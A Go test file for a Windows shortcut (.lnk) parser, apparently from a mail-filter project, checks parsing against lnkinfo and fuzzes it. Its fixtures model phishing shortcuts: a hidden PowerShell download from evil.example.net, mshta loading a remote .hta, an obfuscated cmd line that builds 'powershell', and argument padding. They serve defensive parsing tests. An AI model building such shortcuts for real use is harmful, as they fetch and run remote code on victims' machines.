package shelllink

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
)

// shortcuts are the shapes the corpus writes and kits make: the target as
// shell items, in LinkInfo, only in the environment block, on a share;
// Unicode and ANSI strings; arguments padded out of the Properties dialog.
var shortcuts = map[string]formats.Shortcut{
	"idlist and linkinfo": {Target: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, IDList: true, LinkInfo: true,
		Arguments: "-w hidden -c iwr https://evil.example.net/x", IconLocation: `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, IconIndex: 11,
		Name: "Invoice", RelativePath: `..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, WorkingDir: `%TEMP%`},
	"idlist only":        {Target: `C:\Windows\System32\cmd.exe`, IDList: true, Arguments: "/c start notepad"},
	"environment block":  {EnvTarget: `%windir%\system32\mshta.exe`, Arguments: "https://evil.example.net/a.hta", IconEnv: `%ProgramFiles%\Adobe\Acrobat.exe`},
	"share":              {Target: `\\fileserver\share\Quarterly Report.xlsx`, LinkInfo: true, Name: "Quarterly report"},
	"ansi":               {Target: `C:\Program Files\Example\app.exe`, LinkInfo: true, ANSI: true, Arguments: "--server intranet", WorkingDir: `C:\Program Files\Example`},
	"padded":             {Target: `C:\Windows\System32\cmd.exe`, LinkInfo: true, Arguments: strings.Repeat(" ", 300) + "/c calc"},
	"unicode long names": {Target: `C:\Users\Åsa\Documents\Rapport för året.docx`, IDList: true},
	"cmd obfuscation":    {Target: `C:\Windows\System32\cmd.exe`, IDList: true, Arguments: `/v:on /c "set x=ersh&&call %ProgramData:~3,1%o^w%x%ell !a! -c x"`},
}

// TestLnkinfo holds the reader and the corpus's writer to liblnk's lnkinfo:
// for each shortcut, lnkinfo must show the fields as written, and Parse
// must read what lnkinfo shows.
func TestLnkinfo(t *testing.T) {
	if _, err := exec.LookPath("lnkinfo"); err != nil {
		t.Fatal("lnkinfo not found (Debian's liblnk-utils, installed by scripts/deps.sh test): the shortcut reader cannot be checked")
	}
	dir := t.TempDir()
	for name, s := range shortcuts {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(dir, strings.ReplaceAll(name, " ", "_")+".lnk")
			b := formats.LNK(s)
			if err := os.WriteFile(path, b, 0o644); err != nil {
				t.Fatal(err)
			}
			out, err := exec.Command("lnkinfo", path).CombinedOutput()
			if err != nil {
				t.Fatalf("lnkinfo: %v\n%s", err, out)
			}
			info, longNames := lnkinfoFields(string(out))
			l, err := Parse(b)
			if err != nil {
				t.Fatal(err)
			}
			local, network := l.LocalBasePath, l.NetworkPath
			for _, c := range []struct{ field, written, read string }{
				{"Local path", localTarget(s), local},
				{"Network path", shareTarget(s), network},
				{"Description", s.Name, l.Name},
				{"Relative path", s.RelativePath, l.RelativePath},
				{"Working directory", s.WorkingDir, l.WorkingDir},
				{"Command line arguments", s.Arguments, l.Arguments},
				{"Icon location", firstOf(s.IconLocation, s.IconEnv), firstOf(l.IconLocation, l.IconEnv)}, // lnkinfo shows the block's without a string
				{"Environment variables location", s.EnvTarget, l.EnvTarget},
			} {
				if info[c.field] != c.written || c.read != c.written {
					t.Errorf("%s: written %q, lnkinfo shows %q, Parse reads %q", c.field, c.written, info[c.field], c.read)
				}
			}
			if s.IDList {
				if got := strings.Join(longNames, `\`); got != strings.SplitN(s.Target, `\`, 2)[1] || l.IDListPath != s.Target {
					t.Errorf("shell items: written %q, lnkinfo's long names %q, Parse reads %q", s.Target, got, l.IDListPath)
				}
			}
		})
	}
}

func firstOf(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

func localTarget(s formats.Shortcut) string {
	if s.LinkInfo && !strings.HasPrefix(s.Target, `\\`) {
		return s.Target
	}
	return ""
}

func shareTarget(s formats.Shortcut) string {
	if s.LinkInfo && strings.HasPrefix(s.Target, `\\`) {
		return s.Target
	}
	return ""
}

// lnkinfoFields reads lnkinfo's "Name : value" lines (the first of each
// name) and the long names of its file entry shell items, in order.
func lnkinfoFields(out string) (map[string]string, []string) {
	fields := map[string]string{}
	var long []string
	for _, line := range strings.Split(out, "\n") {
		k, v, ok := strings.Cut(strings.TrimSpace(line), ":")
		if !ok {
			continue
		}
		k, v = strings.TrimSpace(k), strings.TrimPrefix(v, " ")
		if k == "Long name" {
			long = append(long, v)
		} else if _, seen := fields[k]; !seen {
			fields[k] = v
		}
	}
	return fields, long
}

func TestTargets(t *testing.T) {
	b := formats.LNK(shortcuts["idlist and linkinfo"])
	l, err := Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}
	if got := l.Targets(); !reflect.DeepEqual(got, want) {
		t.Errorf("Targets() = %q, want %q", got, want)
	}
	l, _ = Parse(formats.LNK(shortcuts["environment block"]))
	if got := l.Targets(); !reflect.DeepEqual(got, []string{`%windir%\system32\mshta.exe`}) || l.IconEnv != `%ProgramFiles%\Adobe\Acrobat.exe` {
		t.Errorf("environment block: Targets() = %q, icon %q", got, l.IconEnv)
	}
}

// TestHostile: sizes that lie, cut files and floods give what was read
// and ErrTruncated or a bounded result, never a panic.
func TestHostile(t *testing.T) {
	full := formats.LNK(shortcuts["idlist and linkinfo"])
	for n := range len(full) {
		l, err := Parse(full[:n])
		switch {
		case n < headerSize && !errors.Is(err, ErrNotLink):
			t.Fatalf("%d bytes: %v, want ErrNotLink", n, err)
		case n >= headerSize && n < len(full)-4 && !errors.Is(err, ErrTruncated):
			t.Fatalf("%d bytes of %d: %v, want ErrTruncated", n, len(full), err)
		case l != nil && len(l.Arguments) > len(shortcuts["idlist and linkinfo"].Arguments):
			t.Fatalf("%d bytes: arguments %q", n, l.Arguments)
		}
	}
	// An IDList of a thousand empty-named items, and a thousand ExtraData
	// blocks: bounded by maxItems and maxBlocks.
	flood := append([]byte{}, full[:headerSize]...)
	flood[20] = HasLinkTargetIDList
	var ids []byte
	for range 1000 {
		ids = append(ids, 5, 0, 0x61, 'x', 'y')
	}
	flood = append(append(flood, byte(len(ids)), byte(len(ids)>>8)), ids...)
	l, err := Parse(flood)
	if err != nil || len(l.Other) > maxOther {
		t.Errorf("flood: %v, %d strings", err, len(l.Other))
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range shortcuts {
		f.Add(formats.LNK(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		l, err := Parse(b)
		if !IsLink(b) {
			if !errors.Is(err, ErrNotLink) || l != nil {
				t.Fatalf("not a link: %v", err)
			}
			return
		}
		if l == nil {
			t.Fatal("a link with a header gave nil")
		}
		if len(l.Other) > maxOther || len(l.Targets()) > 5 {
			t.Fatalf("unbounded: %d other strings, %d targets", len(l.Other), len(l.Targets()))
		}
		for _, s := range l.Strings() {
			if len(s) > 3*len(b)+3*maxString {
				t.Fatalf("a string longer than the file could hold: %d bytes from %d", len(s), len(b))
			}
		}
		l2, err2 := Parse(b)
		if !reflect.DeepEqual(l, l2) || !errors.Is(err2, err) && err != err2 {
			t.Fatal("not deterministic")
		}
	})
}
